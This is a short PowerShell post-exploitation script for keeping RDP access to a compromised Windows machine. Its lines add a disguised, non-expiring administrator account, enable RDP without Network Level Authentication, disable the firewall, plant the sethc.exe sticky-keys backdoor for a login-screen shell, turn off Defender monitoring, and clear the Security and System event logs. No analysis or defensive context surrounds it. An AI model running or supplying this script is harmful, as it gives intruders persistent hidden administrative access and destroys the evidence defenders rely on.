# post-exploitation: keep a way back in over RDP
$u = 'helpdesk_adm'
net user $u 'Rdp#Access2024' /add /expires:never
net localgroup 'Remote Desktop Users' $u /add
net localgroup Administrators $u /add
Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name 'fDenyTSConnections' -Value 0
Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp' -Name 'UserAuthentication' -Value 0
Set-NetFirewallProfile -All -Enabled False
New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe' -Name 'Debugger' -Value 'C:\Windows\System32\cmd.exe' -Force | Out-Null
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true
Clear-EventLog -LogName Security, System
